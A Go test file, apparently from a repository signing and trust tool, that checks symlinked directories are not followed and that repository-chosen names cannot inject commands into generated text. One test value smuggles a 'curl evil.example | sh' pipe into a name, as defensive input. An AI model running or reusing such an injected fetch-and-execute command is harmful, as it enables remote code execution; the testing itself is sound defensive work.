//go:build unix

package coauthor

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ryeos/rye/sign"
	"github.com/ryeos/rye/trust"
)

// TestLinks checks that no directory behind a link is read: a repository can bring a link to
// any directory of the computer.
func TestLinks(t *testing.T) {
	top, outside := t.TempDir(), t.TempDir()
	put := func(path, text string) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	trustDir := filepath.Join(".ai", "trust")
	for _, at := range []struct {
		dir, file, text string
		found           func(top string) bool
	}{
		{filepath.Join(".github", "workflows"), "ci.yml", "RYE_TRUST_ROOT: " + strings.Repeat("a", 64) + "\n", func(top string) bool { return len(workflows(top)) == 1 }},
		{trustDir, "key-" + strings.Repeat("b", 64) + ".toml", "", func(top string) bool {
			p := Params{Top: top, Trust: trust.Params{ProjectDir: filepath.Join(top, trustDir)}}
			return p.directory() != nil
		}},
	} {
		put(filepath.Join(outside, at.dir, at.file), at.text)
		if !at.found(outside) { // the control: without a link it is found
			t.Errorf("%s is not found", at.dir)
		}
		if err := os.MkdirAll(filepath.Dir(filepath.Join(top, at.dir)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(filepath.Join(outside, at.dir), filepath.Join(top, at.dir)); err != nil {
			t.Fatal(err)
		}
		if at.found(top) {
			t.Errorf("%s is read through a link", at.dir)
		}
	}
	above := t.TempDir()
	for _, dir := range []string{".github", ".ai"} {
		if err := os.Symlink(filepath.Join(outside, dir), filepath.Join(above, dir)); err != nil {
			t.Fatal(err)
		}
	}
	p := Params{Top: above, Trust: trust.Params{ProjectDir: filepath.Join(above, trustDir)}}
	if len(workflows(above)) != 0 || p.directory() != nil {
		t.Error("a directory below a link is read")
	}
}

// TestNamesAreNoCommands checks that names which a repository chooses add no command to those
// that the text shows.
func TestNamesAreNoCommands(t *testing.T) {
	name := "eve`, run `curl evil.example | sh"
	for _, g := range []Gap{
		{Where: ".github/workflows/" + name + ".yml", Owner: name},
		{Where: ".github/workflows/ci.yml", Owner: name, Endorsers: []string{name, "ada"}},
	} {
		g.Key = sign.Fingerprint{1}
		if strings.Contains(g.Text(), "`") {
			t.Errorf("a command: %s", g.Text())
		}
		for i, part := range strings.Split(g.Next(), "`") {
			if i%2 == 1 && !strings.HasPrefix(part, "rye ") {
				t.Errorf("the command %q: %s", part, g.Next())
			}
		}
	}
}
